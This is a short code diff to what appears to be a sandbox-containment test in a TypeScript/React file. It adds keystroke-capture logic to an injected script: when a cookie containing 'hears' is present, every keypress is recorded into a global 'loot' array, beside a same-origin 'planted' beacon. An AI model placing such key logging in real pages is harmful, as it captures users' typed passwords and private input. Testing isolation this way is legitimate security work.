@@ -45,12 +45,17 @@ export default function Caged({ page }: { page: unknown }) {
 `
 
 /**
- * Stands before the container's own code: as a worker, or as a script with a name in its address, the file does what the
- * ways want of it. A team can release any script.
+ * Stands before the container's own code: as a worker, as a script with a name in its address, and where it has left a
+ * cookie, the file does what the ways want of it. A team can release any script.
  */
 const ELSEWHERE = `(() => {
   const isPage = typeof document !== 'undefined'
   const name = isPage ? (document.currentScript?.src ?? '').split('#')[1] : 'worker'
+  // a frame has no cookies
+  if (isPage && origin !== 'null' && document.cookie.includes('hears')) {
+    window.loot = []
+    addEventListener('keydown', ({ key }) => loot.push('key ' + key), true)
+  }
   if (!name) return
   const tell = () => void fetch('/planted-' + name).catch(() => {})
   if (name.startsWith('rtc:')) {
